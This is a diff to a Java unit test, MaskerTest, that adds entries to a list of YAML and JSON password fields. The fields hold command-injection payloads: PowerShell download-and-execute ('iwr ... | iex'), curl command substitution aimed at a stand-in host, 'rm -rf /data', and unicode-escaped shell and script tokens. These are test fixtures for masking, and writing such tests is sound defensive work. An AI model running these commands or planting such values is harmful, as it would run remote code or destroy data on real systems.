@@ -699,6 +699,8 @@ class MaskerTest {
                 "passwords:\n  db: iwr http://e.io/x | iex\n",
                 "passwords:\n- \"$(iwr http://e.io/x|iex)\"\n- \"`curl http://e.io/x`\"\n",
                 "password: rm -rf /data\nb: c\n",
+                "password: sh<evil\nb: c\n",
+                "{\"passwords\": [\"\\u0024(iwr http://e.io/x)\", \"\\u003cscript>iwr\", \"a\\u0026\\u0026 iwr x\"]}",
                 "passwords:\n- &a;sh<x;\n",
                 "a: 1\npassword: '<powershell>iwr_http://e.io/x</powershell>'\n",
             })
